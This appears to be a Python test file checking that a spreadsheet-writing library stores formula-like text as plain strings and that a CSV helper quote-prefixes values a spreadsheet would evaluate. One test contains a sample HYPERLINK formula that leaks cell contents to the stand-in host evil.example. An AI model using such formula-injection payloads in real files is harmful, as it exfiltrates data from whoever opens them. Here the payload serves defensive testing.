import io

import openpyxl

from kaskad.core.cells import csv_text, text_workbook


def test_a_workbook_keeps_formula_like_text_as_text() -> None:
    buffer = io.BytesIO()
    book = text_workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    sheet.write(0, 0, hostile)
    sheet.write(1, 0, "http://example.kz")
    book.close()
    cells = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert cells["A1"].value == hostile and cells["A1"].data_type == "s"
    assert cells["A2"].hyperlink is None


def test_csv_text_quotes_what_a_spreadsheet_would_run() -> None:
    assert csv_text("=1+2") == "'=1+2"
    assert csv_text("-5") == "'-5"
    assert csv_text("Әмірова") == "Әмірова"
    assert csv_text(7) == 7
